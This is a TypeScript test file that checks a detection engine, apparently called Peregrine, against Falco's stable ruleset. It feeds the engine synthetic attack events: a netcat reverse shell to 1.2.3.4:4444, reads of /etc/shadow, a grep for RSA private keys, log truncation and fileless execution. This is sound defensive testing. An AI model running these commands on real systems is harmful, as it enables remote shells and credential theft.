// SPDX-License-Identifier: Apache-2.0
// Falco compatibility: Falco's stable ruleset loads whole; how many of its rules Peregrine can fully evaluate.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { loadRules } from '../../src/rules/index.js';
import { ev, execEv, falcoRulesPath, hits, proc, readText, users } from './helpers.js';

// Measured when this test was written; the test fails if a change lowers it.
const MIN_FULLY_EVALUABLE = 19;

const path = falcoRulesPath();
const skip = path
  ? false
  : 'Falco ruleset not found at ../shared/falco/falco_rules.yaml (outside the repository)';

test('Falco stable ruleset: every rule loads and the fully-evaluable count does not regress', {
  skip,
}, (t) => {
  const set = loadRules([{ path: path!, text: readText(path!) }], { users });
  const rules = set.rules();
  const st = set.stats();
  assert.equal(st.rulesLoaded, 25, 'Falco 5.x stable ruleset has 25 rules');
  assert.equal(rules.length, 25);
  const evaluable = rules.filter((r) => r.evaluable);
  t.diagnostic(`loaded ${rules.length}/25, fully evaluable ${evaluable.length}/25`);
  const unsupported = new Map<string, string[]>();
  for (const r of rules) {
    if (r.evaluable) continue;
    const why = r.unsupportedFields.length
      ? r.unsupportedFields.join(', ')
      : `no event kind (evt.type ${r.kinds.length ? '' : 'unobserved'})`;
    t.diagnostic(`not fully evaluable: ${r.name}: ${why}`);
    for (const f of r.unsupportedFields) unsupported.set(f, [...(unsupported.get(f) ?? []), r.name]);
  }
  t.diagnostic(`unsupported condition fields: ${[...unsupported.keys()].sort().join(', ') || 'none'}`);
  const outNa = new Set(rules.flatMap((r) => r.unsupportedOutputFields));
  t.diagnostic(`output fields printed as <NA>: ${[...outNa].sort().join(', ') || 'none'}`);
  t.diagnostic(`kinds needed: ${set.requiredKinds().join(' ')}`);
  assert.ok(
    evaluable.length >= MIN_FULLY_EVALUABLE,
    `fully evaluable ${evaluable.length} < ${MIN_FULLY_EVALUABLE}`,
  );
});

test('Falco stable ruleset: representative rules fire on Peregrine events', { skip }, () => {
  const set = loadRules([{ path: path!, text: readText(path!) }], { users });
  // Read sensitive file untrusted: open_read of /etc/shadow by an untrusted binary.
  const shadow = ev('file.open', {
    process: proc('/usr/bin/python3', ['python3', 'x.py']),
    file: { path: '/etc/shadow', path_source: 'kernel', access: ['read'], flags: 0 },
    return_code: 3,
  });
  assert.ok(hits(set, shadow).includes('Read sensitive file untrusted'));
  // ... but not by a trusted one (sshd).
  const sshd = { ...shadow, process: proc('/usr/sbin/sshd', ['sshd']) };
  assert.ok(!hits(set, sshd).includes('Read sensitive file untrusted'));
  // Search Private Keys or Passwords
  assert.ok(
    hits(set, execEv(['grep', '-r', 'BEGIN RSA PRIVATE', '/home'])).includes(
      'Search Private Keys or Passwords',
    ),
  );
  // PTRACE attached to process
  const pt = ev('process.ptrace', {
    ptrace: {
      request: 'PTRACE_ATTACH',
      target_pid: 42,
      target_exec_id: 'x',
      target_binary: '/usr/bin/sleep',
    },
  });
  assert.ok(hits(set, pt).includes('PTRACE attached to process'));
  // Clear Log Activities: O_TRUNC write of /var/log/syslog
  const trunc = ev('file.open', {
    file: { path: '/var/log/syslog', path_source: 'kernel', access: ['write', 'truncate'], flags: 0o1001 },
    return_code: 4,
  });
  assert.ok(hits(set, trunc).includes('Clear Log Activities'));
  // Execution from /dev/shm
  assert.ok(hits(set, execEv(['/dev/shm/x'])).includes('Execution from /dev/shm'));
  // Fileless execution via memfd_create
  const memfd = execEv(['/memfd:x (deleted)'], { proc: { flags: ['exec', 'exe_from_memfd'] } });
  assert.ok(hits(set, memfd).includes('Fileless execution via memfd_create'));
  // Create Symlink Over Sensitive Files
  const sym = ev('file.symlink', { file: { path: '/etc/shadow', path_source: 'user', new_path: '/tmp/s' } });
  assert.ok(hits(set, sym).includes('Create Symlink Over Sensitive Files'));
  // Netcat Remote Code Execution in Container: only in a container
  const nc = execEv(['nc', '-e', '/bin/sh', '1.2.3.4', '4444']);
  assert.ok(!hits(set, nc).includes('Netcat Remote Code Execution in Container'));
  const ncC = {
    ...nc,
    container: {
      id: 'abc',
      name: 'web',
      image: 'nginx:1.25',
      image_id: 'sha',
      runtime: 'containerd',
      labels: {},
    },
  };
  assert.ok(hits(set, ncC).includes('Netcat Remote Code Execution in Container'));
});
